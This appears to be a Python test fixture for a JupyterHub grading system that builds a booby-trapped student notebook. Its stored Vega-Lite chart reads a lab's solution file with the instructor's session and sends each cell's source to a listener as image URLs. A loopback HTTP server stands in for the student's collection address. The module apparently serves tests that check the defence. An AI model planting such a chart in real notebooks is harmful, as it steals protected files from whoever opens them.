"""What a student plants for the instructor to open, for tests/test_jupyterhub.py and
tests/test_lab_command.py: a notebook with a stored Vega-Lite chart that reads a lab's solution
with the opener's cookies, and a loopback listener standing for the student's address."""

import contextlib
import http.server
import threading
from urllib.parse import unquote

import nbformat

SHOWN_TEXT = "A chart of my results"  # the notebook's markdown: it was opened and drawn


def her_chart(listener, lab, field="source"):
    """A notebook whose one stored output is a Vega-Lite chart that reads `lab`'s solution from
    the server (a path relative to grading/submitted/<student>/<lab>/) and sends each cell's
    `field` to `listener` (an http://host:port address) as an image's address."""
    spec = {
        "$schema": "https://vega.github.io/schema/vega-lite/v5.json",
        "data": {
            "url": f"../../../../solutions/{lab}/{lab}.ipynb",
            "format": {"type": "json", "property": "cells"},
        },
        "transform": [{"calculate": f"'{listener}/seen?' + datum.{field}", "as": "u"}],
        "mark": {"type": "image", "width": 4, "height": 4},
        "encoding": {"url": {"field": "u", "type": "nominal"}},
    }
    output = nbformat.v4.new_output(
        "display_data",
        data={"application/vnd.vegalite.v5+json": spec, "text/plain": "<VegaLite chart>"},
    )
    return nbformat.v4.new_notebook(
        cells=[
            nbformat.v4.new_markdown_cell(SHOWN_TEXT),
            nbformat.v4.new_code_cell("results", outputs=[output], execution_count=1),
        ],
        metadata={
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
    )


@contextlib.contextmanager
def listening():
    """An HTTP listener on loopback standing for an address of the student's: (its URL, the
    paths it heard, decoded)."""
    heard = []

    class Listener(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (http.server's name)
            heard.append(unquote(self.path))
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Listener)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", heard
    finally:
        server.shutdown()
        server.server_close()
